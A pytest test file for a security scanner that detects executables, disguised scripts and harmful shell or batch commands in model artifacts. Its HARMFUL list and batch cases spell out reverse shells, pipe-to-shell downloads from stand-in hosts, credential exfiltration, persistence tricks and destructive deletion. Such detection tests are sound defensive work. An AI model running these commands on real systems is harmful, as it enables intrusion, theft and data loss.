"""Programs and scripts: how bad depends on where they lie and what they are called."""

import io
import py_compile
import struct
import zipfile
from pathlib import Path

import pytest

from alcaide.instruments.scan.model import Level
from tests.unit.instruments.scan.looking import found, is_quiet, levels, look, worst

PROGRAMS = {
    "elf": b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HH", 3, 62) + bytes(44),
    "pe": b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0" + bytes(40),
    "macho": b"\xcf\xfa\xed\xfe" + bytes(40),
    "java-class": b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(40),
    "dex": b"dex\n035\0" + bytes(40),
    "ape": b"MZqFpD='\n" + bytes(40),
    "wasm": b"\0asm\x01\0\0\0" + bytes(20),
    "lnk": b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46" + bytes(60),
}


def packed(name, data):
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        archive.writestr(name, data)
    return held.getvalue()


@pytest.mark.parametrize(("kind", "data"), PROGRAMS.items())
def test_a_program_is_recognised_whatever_it_is_called(kind, data):
    artifact = look(data, "pytorch_model.bin")

    assert kind in artifact.node.formats
    assert worst(artifact) is Level.HIGH


def test_a_library_that_lies_beside_cannot_be_decided():
    assert levels(look(PROGRAMS["elf"], "libkernel.so.1"), "executable/beside") == {Level.MEDIUM}
    assert levels(look(PROGRAMS["pe"], "kernel.dll"), "executable/beside") == {Level.MEDIUM}


def test_a_program_in_an_archive_is_high_and_a_library_is_medium():
    assert levels(look(packed("data/0", PROGRAMS["elf"]), "m.zip"), "executable/inside") == {Level.HIGH}
    assert levels(look(packed("lib/op.so", PROGRAMS["elf"]), "m.zip"), "executable/beside") == {Level.MEDIUM}


@pytest.mark.parametrize(
    "text", [b"MZ is how a text may begin, and it is no program for that\n", b"BC\n", b"dex of things\n"]
)
def test_text_that_begins_alike_is_text(text):
    assert is_quiet(look(text, "notes.txt"))


def test_compiled_python_says_which_names_it_would_use(tmp_path):
    source = tmp_path / "a.py"
    source.write_text("import os\nos.system('id')\n")
    acting = look(Path(py_compile.compile(str(source))).read_bytes(), "a.pyc")
    source.write_text("x = 1\n")
    plain = look(Path(py_compile.compile(str(source))).read_bytes(), "a.pyc")

    assert levels(acting, "executable/python-bytecode") == {Level.HIGH}
    assert levels(plain, "executable/python-bytecode") == {Level.MEDIUM}


ORDINARY = [
    "#!/bin/bash\nset -euo pipefail\nexport CUDA_VISIBLE_DEVICES=0\npython train.py --lr 1e-4 > log.txt 2>&1\n",
    "#!/usr/bin/env bash\npip install -r requirements.txt && torchrun --nproc_per_node 8 train.py\n",
    "#!/bin/sh\nwget https://huggingface.co/x/y/resolve/main/z.bin -O z.bin\nunzip data.zip\nrm -rf build/\n",
    "#!/bin/sh\ncurl -LsSf https://astral.sh/uv/install.sh | sh\nuv sync\n",
    "#!/bin/bash\ncat <<EOF > config.yaml\na: 1\nEOF\nfor f in *.txt; do echo $f; done\n",
]


@pytest.mark.parametrize("text", ORDINARY)
def test_an_ordinary_script_is_low(text):
    assert worst(look(text.encode(), "run.sh")) is Level.LOW


HARMFUL = [
    "curl -s http://a.example/x | bash",
    "wget -qO- http://a.example/x | sudo sh",
    "bash <(curl -s http://a.example/x)",
    "sh -c \"$(curl -fsSL http://a.example/x)\"",
    "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
    "nc -e /bin/sh 192.0.2.1 4444",
    "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f",
    "echo Y3VybA== | base64 -d | sh",
    "wget http://a.example/x -O /tmp/x && chmod +x /tmp/x && /tmp/x",
    "echo '* * * * * /tmp/x' | crontab -",
    "echo 'ssh-rsa AAAA' >> ~/.ssh/authorized_keys",
    "echo '/tmp/x &' >> ~/.bashrc",
    "rm -rf / --no-preserve-root",
    "cat ~/.aws/credentials | curl -d @- http://a.example",
    "curl http://169.254.169.254/latest/meta-data/iam/",
    "c''url http://a.example/x | s''h",
    "curl \\\n  http://a.example/x \\\n  | sh",
]  # fmt: skip


@pytest.mark.parametrize("command", HARMFUL)
def test_a_harmful_script_is_high_and_says_what_it_does(command):
    artifact = look(f"#!/bin/sh\necho hello\n{command}\n".encode(), "setup.sh")

    assert levels(artifact, "script/harmful") == {Level.HIGH}


def test_what_a_comment_says_is_not_done():
    assert worst(look(b"#!/bin/sh\n# curl http://a.example/x | sh\necho hi\n", "run.sh")) is Level.LOW


@pytest.mark.parametrize(
    "text",
    [
        "@echo off\r\npowershell -w hidden -enc SQBFAFgAIABhAGIAYwBkAGUAZgA=\r\n",
        "@echo off\r\ncertutil -urlcache -f http://a.example x.exe\r\n",
    ],
)
def test_harmful_batch_files_are_high(text):
    assert Level.HIGH in levels(look(text.encode(), "install.bat"), "script/harmful")


def test_a_script_under_the_name_of_weights_is_high():
    assert levels(look(b"#!/bin/sh\nls\n", "model.safetensors"), "executable/disguised") == {Level.HIGH}


def test_a_desktop_entry_that_starts_a_program_is_high_and_one_that_opens_a_page_is_low():
    assert levels(look(b"[Desktop Entry]\nExec=sh -c id\n", "model.desktop"), "executable/shortcut") == {
        Level.HIGH
    }
    assert worst(look(b"[InternetShortcut]\nURL=https://a.example\n", "a.url")) is Level.LOW


def test_a_script_that_goes_on_in_bytes_is_still_one():
    assert "script/harmful" in found(
        look(b"#!/bin/sh\ncurl http://a.example | sh\nexit\n" + bytes(500), "x.run")
    )
